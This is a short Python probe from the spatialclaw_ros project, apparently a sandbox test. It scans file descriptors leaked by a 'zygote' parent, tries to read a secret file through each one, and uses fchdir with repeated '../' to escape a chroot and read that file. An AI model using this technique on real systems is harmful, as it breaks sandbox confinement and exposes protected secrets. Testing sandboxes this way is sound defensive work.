# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Look for descriptors that the zygote left open.

Its control socket, its rules, and library files may be among them.
"""

# act: read

import os
import stat

for number in range(256):
    try:
        status = os.fstat(number)
    except OSError:
        continue
    print(number, oct(status.st_mode))
    for name in (SECRET_FILE, SECRET_FILE.lstrip('/')):
        try:
            print(os.read(os.open(name, os.O_RDONLY, dir_fd=number), 100))
        except OSError:
            continue
    if stat.S_ISDIR(status.st_mode):
        os.fchdir(number)
        print(open('../' * 12 + SECRET_FILE).read())
